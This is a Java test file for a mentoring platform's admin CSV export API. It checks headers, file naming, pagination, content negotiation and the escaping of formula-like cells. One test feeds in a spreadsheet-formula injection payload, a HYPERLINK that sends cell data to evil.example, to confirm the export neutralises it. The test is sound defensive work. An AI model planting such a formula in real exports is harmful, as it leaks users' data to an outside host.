package com.codementee.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.codementee.platform.errors.ErrorCode;
import com.codementee.support.AdminListFixtures;
import com.codementee.support.ApiClient;
import com.codementee.support.ApiResponse;
import com.codementee.support.ApiTest;
import com.codementee.support.PersonFixtures;
import java.math.BigDecimal;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/** Tests the CSV format of the admin lists. */
class CsvApiTest extends ApiTest {

    private static final Pattern CELL = Pattern.compile("\\G(\"(?:[^\"]|\"\")*\"|[^,\"\r\n]*)(,|\r\n)");

    private static final ZoneId ZONE = ZoneId.of("Asia/Kolkata");
    private static final DateTimeFormatter LOCAL_TIME = DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss");

    private static AdminListFixtures rows;

    @ParameterizedTest
    @ValueSource(strings = {
        "booking-requests", "mocks", "mentors", "mentees", "companies", "time-slots", "meet-links", "pricing-plans",
        "orders", "feedbacks"})
    void exportsEveryAdminListAsCsv(String list) {
        var filter = list.equals("time-slots") ? "mentor_id=" + rows().mentor.id() : "q=" + rows().marker;
        var path = "/api/admin/" + list + "?limit=100&" + filter;

        var json = as(given.admin()).get(path).expect(200);
        var csv = table().get(path).expect(200);

        assertThat(csv.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
        assertThat(csv.header("Content-Disposition"))
                .matches("attachment; filename=\"" + list + "-\\d{4}-\\d\\d-\\d\\d\\.csv\"");
        assertThat(csv.header("Cache-Control")).isEqualTo("no-store");
        assertThat(csv.headers().allValues("Vary")).contains("Accept");
        assertThat(json.headers().allValues("Vary")).contains("Accept");
        var cells = cells(csv);
        var header = cells.getFirst();
        assertThat(json.data()).isNotEmpty();
        assertThat(header).doesNotHaveDuplicates()
                .noneMatch(name -> name.matches("role|currency|version|(.+[_.])?(created|confirmed|decided)_by"));
        assertThat(header.getFirst()).isIn("id", "plan_id");
        assertThat(cells).hasSize(json.data().size() + 1).allMatch(row -> row.size() == header.size());
        for (int row = 0; row < json.data().size(); row++) {
            for (int column = 0; column < header.size(); column++) {
                var name = header.get(column);
                var value = json.data().get(row).at("/" + name.replaceFirst(" \\(.*", "").replace('.', '/'));
                assertThat(value.isMissingNode()).as(name).isEqualTo(name.startsWith("no_show."));
                if (!value.isContainer()) {
                    assertThat(cells.get(row + 1).get(column)).as(name).isEqualTo(shown(name, value));
                }
            }
        }
    }

    /** Returns the expected text of a cell in this column. */
    private static String shown(String column, JsonNode value) {
        if (value.isNull() || value.isMissingNode()) return "";
        if (column.endsWith(" (rupees)")) return BigDecimal.valueOf(value.asLong(), 2).toString();
        if (column.endsWith(" (Asia/Kolkata)")) return LOCAL_TIME.format(Instant.parse(value.asString()).atZone(ZONE));
        assertThat(column).doesNotEndWith("_at");
        return value.asString("");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "orders | id,razorpay_order_id,plan_name,amount (rupees),amount (paise),status,amount_refunded (rupees),"
                + "amount_refunded (paise),created_at (Asia/Kolkata),paid_at (Asia/Kolkata),name,email,razorpay_payment_id",
        "mentors | id,name,email,status,timezone,created_at (Asia/Kolkata),updated_at (Asia/Kolkata),headline,companies,"
                + "interview_types,topics,upcoming_mocks,completed_mocks,average_rating,weekly_capacity,reliability.mocks,"
                + "reliability.no_shows,reliability.late_declines,reliability.late_feedback,severity.comparisons,"
                + "severity.mentees,severity.points",
        "time-slots | id,date,start_time,end_time,timezone,interview_types,status,created_at (Asia/Kolkata),mentor_name"})
    void hasTheColumnsThatReadersNeed(String list, String header) {
        assertThat(table().get("/api/admin/" + list).expect(200).text()).startsWith(header + "\r\n");
    }

    @Test
    void namesTheFileWithTodaysDateInThePlatformTimeZone() {
        advance(Duration.between(
                now(), LocalDate.ofInstant(now(), ZONE).plusDays(1).atTime(1, 0).atZone(ZONE).toInstant()));

        var name = table().get("/api/admin/mentees").expect(200).header("Content-Disposition");

        var today = LocalDate.ofInstant(now(), ZONE);
        assertThat(today).isNotEqualTo(LocalDate.ofInstant(now(), ZoneOffset.UTC));
        assertThat(name).isEqualTo("attachment; filename=\"mentees-" + today + ".csv\"");
    }

    @Test
    void writesSlotsAndTopicsInOneCellEach() {
        var cells = cells(table().get("/api/admin/booking-requests?q=" + rows().marker).expect(200));

        assertThat(cells.get(1).get(cells.getFirst().indexOf("specific_topics"))).isEqualTo("Graphs; Caching");
        assertThat(cells.get(1).get(cells.getFirst().indexOf("preferred_slots")))
                .matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d-\\d\\d:\\d\\d Asia/Kolkata \\(booked\\)");
    }

    @Test
    void escapesNamesThatLookLikeFormulas() {
        var marker = PersonFixtures.uniqueMarker();
        var hostile = List.of(
                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\") " + marker, "@SUM(1+1) " + marker,
                "＝1+1 " + marker, "Zoë, \"the\" 🚀 " + marker);
        hostile.forEach(given::freeMentee);

        var csv = table().get("/api/admin/mentees?sort=created_at&q=" + marker).expect(200);

        var names = cells(csv).stream().skip(1).map(row -> row.get(1)).toList();
        assertThat(names).containsExactly(
                "'" + hostile.get(0), "'" + hostile.get(1), "'" + hostile.get(2), hostile.get(3));
    }

    @Test
    void linksToTheNextPage() {
        var ids = new ArrayList<String>();
        var next = "/api/admin/mentees?limit=2&sort=name&q=" + rows().marker;
        while (next != null) {
            var part = table().get(next).expect(200);
            cells(part).stream().skip(1).forEach(row -> ids.add(row.getFirst()));
            var link = part.header("Link");
            if (link != null) {
                assertThat(link).matches(
                        "</api/admin/mentees\\?limit=2&sort=name&q=[0-9a-f]+&cursor=[\\w-]+>; rel=\"next\"");
            }
            next = link == null ? null : link.substring(1, link.indexOf('>'));
        }

        assertThat(ids).hasSize(5).doesNotHaveDuplicates().isEqualTo(
                as(given.admin()).get("/api/admin/mentees?sort=name&q=" + rows().marker).data()
                        .findValuesAsString("id"));
    }

    @Test
    void writesTheHeaderWithoutRows() {
        var csv = table().get("/api/admin/meet-links?limit=1").expect(200);
        var empty = table().get("/api/admin/mentees?q=" + PersonFixtures.uniqueMarker()).expect(200);

        assertThat(csv.text()).startsWith("id,name,link,created_at (Asia/Kolkata)\r\n");
        assertThat(empty.text()).startsWith("id,name,email,status,").endsWith("\r\n").containsOnlyOnce("\r\n");
        assertThat(empty.header("Link")).isNull();
    }

    @Test
    void exportsUpToTenThousandRows() {
        table().get("/api/admin/companies?limit=10000").expect(200);
        table().get("/api/admin/companies?limit=10001").expectInvalid("limit");
        as(given.admin()).get("/api/admin/companies?limit=101").expectInvalid("limit");
    }

    @Test
    void returnsErrorsAsJson() {
        anonymous().header("Accept", "text/csv").get("/api/admin/mentees").expect(401, ErrorCode.UNAUTHENTICATED);
        as(given.freeMentee()).header("Accept", "text/csv").get("/api/admin/mentees")
                .expect(403, ErrorCode.FORBIDDEN_ROLE);
        as(given.mentor()).header("Accept", "text/csv").get("/api/admin/orders").expect(403, ErrorCode.FORBIDDEN_ROLE);
        table().get("/api/admin/mentees?sort=email").expectInvalid("sort");
        table().get("/api/admin/mentees?cursor=x").expect(400, ErrorCode.MALFORMED_REQUEST);
    }

    @Test
    void exportsOnlyAdminLists() {
        table().get("/api/companies").expect(406, ErrorCode.NOT_ACCEPTABLE);
        table().get("/api/payment/orders").expect(406, ErrorCode.NOT_ACCEPTABLE);
        table().get("/api/auth/me").expect(406, ErrorCode.NOT_ACCEPTABLE);
        anonymous().header("Accept", "text/html").get("/api/admin/mentees").expect(401, ErrorCode.UNAUTHENTICATED);
        as(given.admin()).header("Accept", "text/html").get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
    }

    @ParameterizedTest
    @ValueSource(strings =
            {"*/*", "application/json", "application/json, text/csv", "text/csv;q=0.5, application/json",
            "text/html, */*;q=0.8"})
    void returnsJsonWhenJsonIsPreferred(String accept) {
        var response = as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(200);

        assertThat(response.header("Content-Type")).isEqualTo("application/json");
        assertThat(response.json().at("/page/limit").asInt()).isEqualTo(20);
    }

    @ParameterizedTest
    @ValueSource(strings =
            {"text/csv;charset=UTF-8", "text/*", "text/csv, application/json;q=0.5", "text/csv, */*;q=0.1",
            "text/html, text/csv"})
    void returnsCsvWhenCsvIsPreferred(String accept) {
        var response = as(given.admin()).header("Accept", accept).get("/api/admin/mentees?limit=200").expect(200);

        assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
    }

    @ParameterizedTest
    @ValueSource(strings = {"csv", "*/csv", "text/csv;q=abc"})
    void refusesAnInvalidAcceptHeader(String accept) {
        as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
    }

    @Test
    void refusesAnAcceptHeaderWithTooManyTypes() {
        var many = String.join(", ", Collections.nCopies(60, "text/csv"));

        as(given.admin()).header("Accept", many).get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
    }

    @Test
    void usesUtf8WhateverTheAcceptCharset() {
        var response = as(given.admin()).header("Accept", "text/csv;charset=iso-8859-1").get("/api/admin/mentees")
                .expect(200);

        assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
    }

    private ApiClient table() {
        return as(given.admin()).header("Accept", "text/csv");
    }

    private AdminListFixtures rows() {
        if (rows == null) rows = new AdminListFixtures(app);
        return rows;
    }

    /** Parses the header and the rows. Fails on text that does not conform to RFC 4180. */
    private static List<List<String>> cells(ApiResponse csv) {
        var table = new ArrayList<List<String>>(List.of(new ArrayList<>()));
        var cell = CELL.matcher(csv.text());
        int end = 0;
        while (end < csv.text().length() && cell.find()) {
            var text = cell.group(1);
            table.getLast().add(text.startsWith("\"")
                    ? text.substring(1, text.length() - 1).replace("\"\"", "\"") : text);
            if (cell.group(2).equals("\r\n")) table.add(new ArrayList<>());
            end = cell.end();
        }
        assertThat(end).as(csv.text()).isEqualTo(csv.text().length());
        table.removeLast();
        return table;
    }
}
